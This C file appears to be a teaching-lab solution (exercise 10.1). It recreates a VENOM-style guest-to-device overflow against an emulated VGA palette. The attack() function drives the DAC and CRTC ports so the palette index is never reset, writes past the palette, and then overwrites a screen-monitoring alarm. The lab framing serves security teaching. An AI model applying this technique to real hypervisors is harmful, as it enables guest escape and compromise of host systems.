/*
 * venom.c - the attack of exercise 10.1
 *
 * VENOM (CVE-2015-3456): a device takes bytes from a guest and puts them at an index of its own,
 * which one way through the device forgets to put back.  Here it is the palette of the VGA.
 */
#include "frame.h"

#define DAC_READ 0x3c7	/* the number of the colour to be read.. */
#define DAC_WRITE 0x3c8 /* ..and of the one to be written */
#define DAC_DATA 0x3c9	/* its red, its green, its blue, one after the other */
#define CRTC_INDEX 0x3d4
#define CRTC_DATA 0x3d5
#define CRTC_CURSOR_LOW 0x0f

static inline void crtc_write(u8 index, u8 value)
{
	outb(CRTC_INDEX, index);
	outb(CRTC_DATA, value);
}

static void attack(void)
{
	/* lab: 10.1 */
	/* The last colours: what lies behind them is no colour any more. */
	for (unsigned colour = 255; colour > 200; colour -= 9) {
		outb(DAC_WRITE, (u8)colour);
		outb(DAC_READ, 0); /* from now on nobody puts the index back */
		for (unsigned i = 0; i < 256; i++)
			outb(DAC_DATA, 0x3f);
	}
	/* The alarm that looks at the screen is overwritten; something on the screen sets it. */
	crtc_write(CRTC_CURSOR_LOW, 0x55);
	crtc_write(CRTC_CURSOR_LOW, 0xaa);
	/* lab: end */
}

void guest(void)
{
	wait_for_key();
	say("venom: now\n");
	attack();
	say("venom: I am still here\n");
}
